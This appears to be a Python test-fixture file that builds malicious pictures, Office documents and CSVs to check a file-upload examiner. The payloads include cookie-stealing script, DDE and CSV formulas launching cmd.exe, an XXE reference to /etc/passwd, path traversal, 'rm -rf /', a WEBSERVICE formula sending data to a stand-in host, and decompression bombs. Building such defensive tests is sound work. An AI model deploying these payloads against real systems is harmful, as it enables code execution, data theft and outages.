"""Files made to do harm, built here in code so that nobody has to keep any; each by the family it belongs to."""

import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from io import BytesIO

from PIL import Image as Pillow

from conglang.portal.content.files.examination.verdicts import Removed

from . import hostile_pdf, ordinary, pdfs
from .hostile_office import (
    EXECUTABLE,
    MACRO_WORD,
    OLE_HEAD,
    nested_bomb,
    odt_with,
    sheet_with_formula,
    word_with_field,
)
from .packages import changed, packed, relation, unpacked, with_part

CANARY = b"CANARY-OF-THE-UPLOAD"


@dataclass(frozen=True)
class Case:
    """``says``: part of the Vietnamese refusal; None when the file is kept without ``gone``."""

    family: str
    name: str
    build: Callable[[], bytes]
    says: str | None
    picture: bool = False
    removed: tuple[Removed, ...] = ()
    gone: tuple[bytes, ...] = ()


word, sheet = cache(ordinary.word), cache(ordinary.sheet)


def jpeg() -> bytes:
    return ordinary.saved(ordinary.picture(), "JPEG")


def png() -> bytes:
    return ordinary.saved(ordinary.picture(), "PNG")


def zip_of(name: str, content: bytes) -> bytes:
    return packed({name: content})


def huge_png() -> bytes:
    """50,000 × 50,000 pixels of nothing in a few hundred bytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 10_000)) + chunk(b"IEND", b"")


def huge_gif() -> bytes:
    small = ordinary.saved(Pillow.new("P", (10, 10)), "GIF")
    return small[:6] + struct.pack("<HH", 65_000, 65_000) + small[10:]


def webp_bomb() -> bytes:
    return ordinary.saved(Pillow.new("RGB", (16_000, 4_100), "red"), "WEBP", lossless=True)


def commented(data: bytes, words: bytes) -> bytes:
    """A JPEG with a comment after its head."""
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(words) + 2) + words + data[2:]


def exif_with(words: str) -> bytes:
    exif = Pillow.Exif()
    exif[0x010E], exif[0x9286] = words, words
    return ordinary.saved(ordinary.picture(), "JPEG", exif=exif)


def tiff() -> bytes:
    return ordinary.saved(ordinary.picture(), "TIFF")


SCRIPT = b"<script>alert(document.cookie)</script>" + CANARY
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>'
)

PICTURES = [
    Case("markup as a picture", "logo.svg", lambda: SVG, "SVG", True),
    Case("markup as a picture", "logo.png", lambda: b"\xef\xbb\xbf<!-- x --><svg/>", "SVG", True),
    Case("markup as a picture", "anh.jpg", lambda: b"<!DOCTYPE html><html><script>1</script>", "trang web", True),
    Case("bomb of pixels", "nho.png", huge_png, "50.000 × 50.000 điểm ảnh", True),
    Case("bomb of pixels", "nho.gif", huge_gif, "triệu điểm ảnh", True),
    Case("bomb of pixels", "nho.webp", webp_bomb, "triệu điểm ảnh", True),
    Case("two files in one", "anh.jpg", lambda: jpeg() + zip_of("a.js", SCRIPT), None, True, gone=(CANARY, b"PK\3\4")),
    Case("two files in one", "anh.gif", lambda: _gif_script(), None, True, gone=(b"alert", CANARY)),
    Case("two files in one", "anh.jpg", lambda: jpeg() + SCRIPT, None, True, gone=(b"<script", CANARY)),
    Case("two files in one", "anh.png", lambda: png() + pdfs.printed(), None, True, gone=(b"%PDF",)),
    Case("hidden in a picture", "anh.jpg", lambda: commented(jpeg(), SCRIPT), None, True, gone=(b"<script", CANARY)),
    Case("hidden in a picture", "anh.jpg", lambda: exif_with(f"<?php {CANARY.decode()}"), None, True,
         gone=(b"<?php", CANARY)),
    Case("hidden in a picture", "anh.png", lambda: _png_text(), None, True, gone=(CANARY,)),
    Case("broken picture", "anh.jpg", lambda: jpeg()[: len(jpeg()) // 2], "hỏng hoặc thiếu", True),
    Case("broken picture", "anh.png", lambda: png()[:60] + b"\xff" * 500 + png()[560:], "hỏng hoặc thiếu", True),
    Case("another kind", "anh.jpg", tiff, "TIFF", True),
    Case("another kind", "anh.jpg", pdfs.printed, "không phải ảnh", True),
    Case("another kind", "IMG_1.HEIC", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 99,
         "Tương thích nhất", True),
    Case("another kind", "anh.png", lambda: EXECUTABLE, "chương trình", True),
    Case("too large", "anh.jpg", lambda: jpeg() + b"\0" * 21_000_000, "chỉ nhận tối đa", True),
]  # fmt: skip


def _gif_script() -> bytes:
    """The old trick: a picture that is also a script, GIF89a=…"""
    return ordinary.saved(Pillow.new("P", (10, 10)), "GIF") + b"=1;alert(1)//" + CANARY


def _png_text() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", CANARY.decode())
    return ordinary.saved(ordinary.picture(), "PNG", pnginfo=info)


def _doubled() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, content in unpacked(word()).items():
            package.writestr(name, content)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            package.writestr("word/document.xml", b"<a/>")
    return out.getvalue()


def _entities() -> bytes:
    bomb = b'<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    return changed(word(), "word/document.xml", b"<w:document", bomb + b"<w:document")


def _outside_entity() -> bytes:
    return changed(
        sheet(), "xl/workbook.xml", b"<workbook", b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><workbook'
    )


def _old(part: str) -> bytes:
    return OLE_HEAD + b"\0" * 504 + part.encode("utf-16-le") + b"\0" * 512


def _locked_zip() -> bytes:
    data = bytearray(word())
    at = data.find(b"PK\1\2")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\1\2", at + 4)
    return bytes(data)


def _macro_sheet() -> bytes:
    return with_part(
        sheet(), "xl/macrosheets/sheet1.xml", b"<macrosheet/>", "application/vnd.ms-excel.macrosheet+xml"
    )


def _bomb() -> bytes:
    return with_part(word(), "word/media/a.xml", b"<a>" + b" " * 60_000_000 + b"</a>", "application/xml")


RELS = "word/_rels/document.xml.rels"
OFFICE = [
    Case("macro", "bao-cao.docx", lambda: with_part(word(), "word/vbaProject.bin", OLE_HEAD, MACRO_WORD), "macro"),
    Case("macro", "bao-cao.docx", lambda: changed(word(), "[Content_Types].xml", b"wordprocessingml.document.main",
         b"x"), "không phải văn bản"),
    Case("macro", "bao-cao.docm", lambda: changed(word(), "[Content_Types].xml",
         b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
         b"application/vnd.ms-word.document.macroEnabled.main+xml"), "macro"),
    Case("macro", "so.xlsx", _macro_sheet, "macro"),
    Case("macro", "so.xlsx", lambda: changed(sheet(), "xl/workbook.xml", b"</sheets>",
         b'</sheets><definedNames><definedName name="Auto_Open">x</definedName></definedNames>'), "macro"),
    Case("macro", "a.odt", lambda: with_part(ordinary.open_text(), "Basic/Standard/Module1.xml", b"<a/>"), "macro"),
    Case("macro", "a.odt", lambda: odt_with(
         b'<text:p><text:a xlink:href="vnd.sun.star.script:a?language=Basic">x</text:a></text:p>'), "macro"),
    Case("object", "a.docx", lambda: with_part(word(), "word/embeddings/oleObject1.bin", OLE_HEAD,
         "application/vnd.openxmlformats-officedocument.oleObject"), "nhúng một tệp khác"),
    Case("object", "a.docx", lambda: with_part(word(), "word/media/image9.png", EXECUTABLE), "nhúng một tệp khác"),
    Case("object", "a.docx", lambda: with_part(word(), "word/activeX/activeX1.xml", b"<a/>",
         "application/vnd.ms-office.activeX+xml"), "ActiveX"),
    Case("object", "a.docx", lambda: relation(word(), "_rels/.rels",
         "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "a.xml", mode="Internal"),
         "tiện ích bổ sung"),
    Case("object", "a.odt", lambda: odt_with(b'<draw:object-ole xlink:href="./Object 9"/>'), "nhúng một tệp khác"),
    Case("fetches from elsewhere", "a.docx", lambda: relation(word(), RELS, "image", "http://192.0.2.1/a.png"),
         "Ngắt liên kết"),
    Case("fetches from elsewhere", "a.docx", lambda: relation(word(), RELS, "oleObject", "http://192.0.2.1/a"),
         "nhúng một tệp khác"),
    Case("fetches from elsewhere", "a.docx", lambda: relation(word(), "word/_rels/settings.xml.rels",
         "attachedTemplate", "http://192.0.2.1/evil.dotm"), None, removed=(Removed.TEMPLATE,), gone=(b"192.0.2.1",)),
    Case("fetches from elsewhere", "a.docx", lambda: relation(word(), RELS, "hyperlink", r"\\192.0.2.1\share\a.exe"),
         None, removed=(Removed.LINK,), gone=(b"192.0.2.1",)),
    Case("fetches from elsewhere", "a.odt", lambda: odt_with(
         b'<draw:frame><draw:image xlink:href="http://192.0.2.1/a.png"/></draw:frame>'), "Ngắt liên kết"),
    Case("fetches from elsewhere", "a.xlsx", lambda: with_part(sheet(), "xl/connections.xml", b"<a/>",
         "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"), "kết nối"),
    Case("command", "a.docx", lambda: word_with_field(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'), "DDE"),
    Case("command", "a.docx", lambda: word_with_field("D", "D", "EAUTO", " cmd"), "DDE"),
    Case("command", "a.docx", lambda: word_with_field("QUOTE 68 68 69 65 85 84 79"), "DDE"),
    Case("command", "a.docx", lambda: word_with_field('INCLUDEPICTURE "http://192.0.2.1/x" \\d'), None,
         removed=(Removed.OUTSIDE,), gone=(b"192.0.2.1",)),
    Case("command", "a.xlsx", lambda: sheet_with_formula("cmd|'/c calc'!A1"), "DDE"),
    Case("command", "a.xlsx", lambda: sheet_with_formula('WEBSERVICE("http://192.0.2.1/"&amp;A1)'), "WEBSERVICE"),
    Case("command", "a.csv", lambda: b"ten;so\nA;=cmd|' /C calc'!A0\n", "dòng 2, cột 2"),
    Case("command", "a.csv", lambda: b"ten,so\n@SUM(1),2\n", "dòng 2, cột 1"),
    Case("bomb of a package", "a.docx", _bomb, "lớn hơn rất nhiều"),
    Case("bomb of a package", "a.docx", nested_bomb, "lớn hơn rất nhiều"),
    Case("bomb of a package", "a.docx", lambda: packed(unpacked(word()) | {f"word/a{n}.xml": b"" for n in range(7000)}),
         "lớn hơn rất nhiều"),
    Case("odd package", "a.docx", lambda: with_part(word(), "../../etc/cron.d/a", b"x"), "không có cấu trúc"),
    Case("odd package", "a.docx", lambda: with_part(word(), "word\\..\\a.xml", b"x"), "không có cấu trúc"),
    Case("odd package", "a.docx", _doubled, "không có cấu trúc"),
    Case("odd package", "a.docx", _entities, "không có cấu trúc"),
    Case("odd package", "a.xlsx", _outside_entity, "không có cấu trúc"),
    Case("odd package", "a.docx", lambda: packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<a/>"}),
         "hỏng hoặc thiếu"),
    Case("two files in one", "a.docx", lambda: EXECUTABLE + word(), "chương trình"),
    Case("two files in one", "a.docx", lambda: word() + CANARY, None, gone=(CANARY,)),
    Case("two files in one", "a.docx", lambda: with_part(word(), "khac.undeclared", CANARY), None, gone=(CANARY,)),
    Case("old kind", "a.docx", lambda: _old("WordDocument"), ".docx"),
    Case("old kind", "a.xls", lambda: _old("Workbook"), ".xlsx"),
    Case("old kind", "a.ppt", lambda: _old("PowerPoint Document"), ".pptx"),
    Case("old kind", "a.doc", lambda: rb"{\rtf1\ansi{\object\objocx}}", ".rtf"),
    Case("password", "a.docx", lambda: _old("EncryptedPackage"), "mật khẩu"),
    Case("password", "a.docx", _locked_zip, "mật khẩu"),
    Case("another kind", "hoa-don.pdf.exe", lambda: EXECUTABLE, "chương trình"),
    Case("another kind", "a.pdf", lambda: zip_of("a.exe", EXECUTABLE), "tệp nén"),
    Case("another kind", "a.pdf", lambda: zip_of("META-INF/MANIFEST.MF", b"Main-Class: A"), "chương trình"),
    Case("another kind", "a.docx", lambda: b"Rar!\x1a\7\1\0" + b"\0" * 99, "tệp nén"),
    Case("another kind", "phim.mp4", lambda: b"\0\0\0\x20ftypisom" + b"\0" * 99, "Phim"),
    Case("another kind", "a.pdf", lambda: b"<html><script>1</script></html>", "trang web"),
    Case("another kind", "a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "chương trình"),
    Case("another kind", "a.pdf", jpeg, "Đây là ảnh"),
    Case("another kind", "a.txt", lambda: b"\x01\x02\x03 binary \x00", "Không nhận loại tệp này"),
    Case("another kind", "a.csv", lambda: b"Ph\xfd\xff\xf4ng Ba \xd0\xecnh", "Unicode"),
    Case("another kind", "a.txt", lambda: "Số \u202egnp.exe".encode(), "Unicode"),
    Case("another kind", "a.pdf", lambda: b"", "không có nội dung"),
]  # fmt: skip

CASES = [*PICTURES, *OFFICE, *(Case("PDF: " + family, *rest) for family, *rest in hostile_pdf.CASES)]
